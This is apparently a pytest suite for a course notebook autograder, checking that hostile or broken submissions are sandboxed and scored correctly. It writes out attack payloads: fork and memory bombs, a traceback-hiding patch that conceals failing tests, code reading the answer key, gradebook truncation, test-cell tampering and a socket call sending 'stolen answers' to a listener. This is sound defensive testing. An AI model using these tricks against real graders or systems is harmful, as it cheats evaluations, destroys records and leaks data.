"""Hostile and broken submissions: each gets the right score and a clear reason; the class is still graded.

One class of submissions of assignment 01 is graded once, in the sandbox, with two workers. Every submission
starts from a correct answer key (8 autograded points) and is then attacked or broken in one way. An attack in
the first answer cell (claim types, 3 points) costs those 3 points and nothing else: 5 points.
"""

from __future__ import annotations

import json
import random
import socket
import sqlite3
import threading
from pathlib import Path

import nbformat
import pytest

from peacetalks.course.autograde import autograde
from peacetalks.course.release import release
from peacetalks.course.sandbox import bwrap_problem
from peacetalks.course.simulate import simulated_notebook

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(bwrap_problem() is not None, reason=f"no sandbox here: {bwrap_problem()}")]

ASSIGNMENT = "01-mapping-the-argument"
FULL, LOSES_PART_A = 8.0, 5.0


def attack(code: str):
    """A mutation that puts ``code`` in place of the claim-types answer."""
    def mutate(notebook, course):
        cell = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "claim_types")
        cell.source = code.format(root=course.root, assignment=ASSIGNMENT)
        return notebook
    return mutate


def edit_tests(notebook, course):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = "pass  # all tests pass, says the student"
    for cell in notebook.cells:  # and give wrong answers everywhere
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "chamberlain_phrase":
            cell.source = "chamberlain_phrase = 'peace in our time'"
    return notebook


def delete_tests(notebook, course):
    notebook.cells = [c for c in notebook.cells if not (c.metadata.get("nbgrader", {}).get("grade")
                                                         and c.cell_type == "code")]
    return notebook


def wrong_kernel(notebook, course):
    notebook.metadata["kernelspec"] = {"name": "julia-1.9", "display_name": "Julia 1.9", "language": "julia"}
    return notebook


SHOWTRACEBACK = """
from IPython.core.interactiveshell import InteractiveShell
InteractiveShell.showtraceback = lambda *args, **kwargs: None   # hide every failing test
claim_types = {{"A": "value", "B": "value", "C": "value", "D": "value", "E": "value", "F": "value"}}
"""
STEAL_SOLUTIONS = """
import json
source = json.load(open("{root}/assignments/{assignment}/{assignment}.ipynb"))
exec("\\n".join("".join(c["source"]) for c in source["cells"] if "claim_types = {{" in "".join(c["source"])))
"""
TRUNCATE_GRADEBOOK = """
for name in ("{root}/gradebook.db", "../../../gradebook.db"):
    try:
        open(name, "w").close()
    except OSError as error:
        print("could not truncate", name, type(error).__name__)
claim_types = {{}}
"""
NETWORK = """
import socket
socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"stolen answers")
"""

CASES = {
    # name: (mutation, expected score, graded by nbgrader?, words expected in the reason)
    "good": (None, FULL, True, ""),
    "infinite-loop": (attack("while True:\n    pass"), LOSES_PART_A, True, "time limit"),
    "endless-output": (attack("while True:\n    print('spam ' * 200)"), LOSES_PART_A, True, "time limit"),
    "memory-bomb": (attack("hog = bytearray(16 * 2**30)"), LOSES_PART_A, True, ""),
    "process-bomb": (attack("import subprocess\nwhile True:\n    subprocess.Popen(['sleep', '600'])"),
                     LOSES_PART_A, True, ""),
    "os-exit": (attack("import os\nos._exit(1)"), 0.0, False, "the kernel died"),
    "edited-tests": (edit_tests, FULL - 1.0, True, ""),  # the restored tests catch the wrong phrase
    "deleted-tests": (delete_tests, None, None, ""),
    "showtraceback": (attack(SHOWTRACEBACK), FULL - 2.0, True, ""),  # the form test passes, hidden ones fail
    "steals-solutions": (attack(STEAL_SOLUTIONS), LOSES_PART_A, True, ""),
    "truncates-gradebook": (attack(TRUNCATE_GRADEBOOK), LOSES_PART_A, True, ""),
    "network": (None, LOSES_PART_A, True, ""),  # filled in below: needs the port
    "invalid-json": ("invalid-json", 0.0, False, "not valid JSON"),
    "renamed": ("renamed", 0.0, False, "no notebook named"),
    "wrong-kernel": (wrong_kernel, FULL, True, ""),
}


@pytest.fixture(scope="module")
def listener():
    """A real server on loopback that records whatever reaches it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    received = []

    def serve():
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            received.append(connection.recv(100))
            connection.close()

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], received
    server.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory, listener):
    from peacetalks.course import Course
    from peacetalks.course.demo import copy_course

    port, _ = listener
    course = copy_course(Course.open(Path(__file__).resolve().parents[1]), tmp_path_factory.mktemp("hostile") / "c")
    with (course.root / "nbgrader_config.py").open("a") as config:
        config.write("\nc.Execute.timeout = 6\n")
    release(course, [ASSIGNMENT])
    source = nbformat.read(course.source_dir / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    student = nbformat.read(course.release_dir / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    cases = dict(CASES)
    cases["network"] = (attack(NETWORK.replace("PORT", str(port))), *CASES["network"][1:])
    for name, (mutation, *_rest) in cases.items():
        folder = course.submitted_dir / name / ASSIGNMENT
        folder.mkdir(parents=True)
        target = folder / f"{ASSIGNMENT}.ipynb"
        if mutation == "invalid-json":
            target.write_text('{"cells": [', encoding="utf-8")
            continue
        notebook = simulated_notebook(source, student, "full", random.Random(0), {})
        if mutation == "renamed":
            nbformat.write(notebook, folder / "my homework.ipynb")
            continue
        if mutation:
            notebook = mutation(notebook, course)
        nbformat.write(notebook, target)
    with sqlite3.connect(course.gradebook_path) as connection:
        before = connection.execute("SELECT COUNT(*) FROM grade_cells").fetchone()[0]
    results = {r.student: r for r in autograde(course, ASSIGNMENT, jobs=2)}
    return course, results, before, cases


@pytest.mark.parametrize("name", sorted(CASES))
def test_each_submission_gets_the_right_score_and_reason(graded, name):
    course, results, _, cases = graded
    _, score, was_graded, words = cases[name]
    result = results[name]
    if score is not None:
        assert result.score == score, f"{name}: {result.score} ({result.reason})"
    if was_graded is not None:
        assert result.graded is was_graded, result.reason
    assert words.lower() in result.reason.lower()
    assert result.max_score == 13.0


def test_deleted_tests_are_restored_and_run(graded):
    _, results, _, _ = graded
    assert results["deleted-tests"].score == FULL, results["deleted-tests"].reason


def test_the_gradebook_survives_and_the_network_was_never_reached(graded, listener):
    course, results, grade_cells_before, _ = graded
    with sqlite3.connect(course.gradebook_path) as connection:
        assert connection.execute("SELECT COUNT(*) FROM grade_cells").fetchone()[0] == grade_cells_before
        assert connection.execute("SELECT COUNT(*) FROM submitted_assignment").fetchone()[0] == len(CASES)
    _, received = listener
    assert received == []
    assert len(results) == len(CASES)


def test_endless_output_is_capped(graded):
    course, _, _, _ = graded
    notebook = course.autograded_dir / "endless-output" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    assert notebook.stat().st_size < 1_000_000
    assert "truncated" in notebook.read_text()


def test_stolen_solutions_were_not_there(graded):
    course, _, _, _ = graded
    notebook = json.loads((course.autograded_dir / "steals-solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text())
    errors = [o for c in notebook["cells"] for o in c.get("outputs", []) if o.get("output_type") == "error"]
    assert any(e["ename"] in ("FileNotFoundError", "PermissionError") for e in errors)
